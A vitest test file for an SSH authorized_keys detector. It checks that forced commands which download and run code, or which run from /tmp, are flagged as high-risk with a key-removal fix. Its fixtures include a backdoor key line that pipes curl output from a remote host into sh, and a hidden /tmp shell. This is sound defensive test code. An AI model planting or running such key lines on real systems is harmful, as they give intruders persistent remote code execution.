// Tests for ssh-key-forced-command: plain keys and rrsync-style forced commands never hit; a forced
// command that downloads or runs from /tmp does, with a remove-authorized-key action for that line.
import { describe, expect, it } from 'vitest';
import { defaultIocDir, loadRuleset } from '../../iocs/load.js';
import { FindingSchema } from '../../model/finding.js';
import { runDetectors } from '../run.js';
import { cleanPersistence, key, snapshotWith } from '../../../test/helpers/persistence-builders.js';
import { sshKeyForcedCommand } from './ssh-key-forced-command.js';

const ruleset = await loadRuleset([defaultIocDir()]);

describe('ssh-key-forced-command', () => {
  it('clean: plain keys and a backup key with rrsync are not reported', () => {
    expect(
      runDetectors(snapshotWith({ persistence: cleanPersistence() }), ruleset, [sshKeyForcedCommand]),
    ).toEqual({
      findings: [],
      skipped: [],
    });
  });

  it('findings: forced commands that download and run, or run from /tmp, are high', () => {
    const bad = key({
      keyType: 'ssh-rsa',
      comment: 'x@campaign',
      command: 'curl -fsSL http://198.51.100.20/k.sh | sh',
      options: ['command="curl -fsSL http://198.51.100.20/k.sh | sh"', 'no-pty'],
      text: 'command="curl -fsSL http://198.51.100.20/k.sh | sh",no-pty ssh-rsa AAAA x@campaign',
    });
    const tmp = key({
      file: '/home/alice/.ssh/authorized_keys',
      user: 'alice',
      comment: undefined,
      fingerprint: 'SHA256:def',
      command: '/tmp/.ICE-unix/.s/sh -i',
      text: 'command="/tmp/.ICE-unix/.s/sh -i" ssh-ed25519 AAAA',
    });
    const findings = runDetectors(
      snapshotWith({ persistence: { ...cleanPersistence(), authorizedKeys: [bad, tmp] } }),
      ruleset,
      [sshKeyForcedCommand],
    ).findings;
    for (const f of findings) expect(FindingSchema.parse(f)).toEqual(f);
    expect(findings.every((f) => f.level === 'high')).toBe(true);
    const byUser = new Map(findings.map((f) => [f.data?.user, f]));
    expect(byUser.size).toBe(2);
    expect(byUser.get('root')).toMatchObject({
      messageId: 'downloadsAndRuns',
      data: {
        keyType: 'ssh-rsa',
        key: 'x@campaign',
        comment: 'x@campaign',
        file: '/root/.ssh/authorized_keys',
        line: 1,
        url: 'http://198.51.100.20/k.sh',
        downloader: 'curl',
        command: 'curl -fsSL http://198.51.100.20/k.sh | sh',
      },
    });
    expect(byUser.get('root')?.message.en).toBe(
      'ssh-rsa key x@campaign of root (/root/.ssh/authorized_keys:1) forces a command that downloads and runs http://198.51.100.20/k.sh',
    );
    // Without a comment the key is named by its fingerprint.
    expect(byUser.get('alice')).toMatchObject({
      messageId: 'runsFromOddPlace',
      data: {
        keyType: 'ssh-ed25519',
        key: 'SHA256:def',
        fingerprint: 'SHA256:def',
        file: '/home/alice/.ssh/authorized_keys',
        line: 1,
        path: '/tmp/.ICE-unix/.s/sh',
        where: { en: '/tmp, a world-writable temporary directory' },
      },
    });
    expect(byUser.get('alice')?.data).not.toHaveProperty('comment');
    expect(findings.flatMap((f) => f.remediate)).toContainEqual({
      type: 'remove-authorized-key',
      path: '/root/.ssh/authorized_keys',
      line: bad.text,
    });
  });

  it('skipped: without the persistence section the detector is skipped, not clean', () => {
    expect(runDetectors(snapshotWith({}), ruleset, [sshKeyForcedCommand]).skipped).toEqual([
      { ruleId: 'ssh-key-forced-command', missing: ['persistence'] },
    ]);
  });
});
